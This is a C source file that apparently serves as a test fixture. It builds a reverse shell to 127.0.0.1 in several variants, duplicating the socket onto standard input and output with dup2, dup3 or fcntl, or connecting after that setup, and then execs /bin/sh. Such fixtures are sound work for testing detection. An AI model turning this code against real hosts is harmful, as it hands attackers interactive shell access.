/* reverse_shell HOW PORT: connects to 127.0.0.1:PORT and becomes a shell on that socket. HOW: dup2,
 * dup3, fcntl. Or connects last, when the socket is standard input and output already: late becomes
 * the shell, late-child has it as its child, closed-child has the socket on 0 without any dup2. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <string.h>
#include <sys/wait.h>

#include "loopback.h"

static void place(const char* how, int fd, int target) {
  if (!strcmp(how, "dup2")) dup2(fd, target);
  if (!strcmp(how, "dup3")) dup3(fd, target, 0);
  if (!strcmp(how, "fcntl")) {
    close(target);
    fcntl(fd, F_DUPFD, target);
  }
}

static void place_all(int fd) {
  for (int target = 0; target < 3; ++target)
    if (target != fd) dup2(fd, target);
}

static int connect_last(const char* how, const char* port) {
  struct sockaddr_in address;
  if (!strcmp(how, "closed-child")) close(0);
  int fd = tcp_socket(&address, port);
  place_all(fd);
  if (connect(0, (struct sockaddr*)&address, sizeof address) != 0) give_up("connect");
  if (strcmp(how, "late") != 0) {
    pid_t child = fork();
    if (child > 0) return waitpid(child, NULL, 0) == child ? 0 : 1;
  }
  execl("/bin/sh", "sh", (char*)NULL);
  return 127;
}

int main(int argc, char** argv) {
  if (argc != 3) return 2;
  if (!strncmp(argv[1], "late", 4) || !strcmp(argv[1], "closed-child"))
    return connect_last(argv[1], argv[2]);
  int fd = connect_to(argv[2]);
  for (int target = 0; target < 3; ++target) place(argv[1], fd, target);
  close(fd);
  execl("/bin/sh", "sh", (char*)NULL);
  return 127;
}
